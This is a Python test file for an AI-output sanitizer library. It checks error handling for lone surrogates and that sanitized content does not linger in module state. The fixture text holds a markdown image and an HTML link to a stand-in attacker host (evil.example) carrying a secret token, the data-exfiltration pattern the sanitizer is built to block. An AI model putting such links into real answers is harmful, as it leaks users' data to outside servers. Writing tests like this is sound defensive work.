"""Bad input and what the output sanitizer keeps after a call (issue 15 items for output)."""

from __future__ import annotations

import gc
import sys

import pytest

from mistral_secure import Guard, Policy, sanitize_output
from mistral_secure._output import OutputSanitizer, StreamSanitizer

SECRET_URL_PART = "Zq8Rr2LkVv7Ww3Ee"


@pytest.mark.parametrize("bad", ["a\ud800b", "\udfff", "x" * 100 + "\udc00"])
def test_lone_surrogate_is_a_value_error_without_content(bad: str) -> None:
    for call in (
        lambda: sanitize_output(bad),
        lambda: OutputSanitizer().sanitize(bad),
        lambda: StreamSanitizer().feed(bad),
        lambda: Guard(Policy(moderation={"enabled": False})).check_output(bad),
    ):
        with pytest.raises(ValueError) as info:
            call()
        exc = info.value
        assert bad not in str(exc) and bad not in repr(exc.args)
        assert exc.__context__ is None and exc.__cause__ is None  # no UnicodeEncodeError.object


def test_nothing_of_an_answer_stays_in_module_state_after_the_call() -> None:
    text = (
        f"![x](https://evil.example/p?q={SECRET_URL_PART}) "
        f"<a href='https://evil.example/{SECRET_URL_PART}'>x</a> mail bob@example.com"
    )
    OutputSanitizer().sanitize(text)
    StreamSanitizer().feed(text)
    gc.collect()
    modules = [m for name, m in sys.modules.items() if name.startswith("mistral_secure._output")]
    seen: set[int] = set()

    def walk(value: object, depth: int) -> bool:
        if id(value) in seen or depth > 4:
            return False
        seen.add(id(value))
        if isinstance(value, str):
            return SECRET_URL_PART in value or "bob@example.com" in value
        if isinstance(value, dict):
            return any(walk(k, depth + 1) or walk(v, depth + 1) for k, v in value.items())
        if isinstance(value, (list, tuple, set, frozenset)):
            return any(walk(v, depth + 1) for v in value)
        return False

    for module in modules:
        for name, value in vars(module).items():
            assert not walk(value, 0), f"{module.__name__}.{name} keeps answer content"
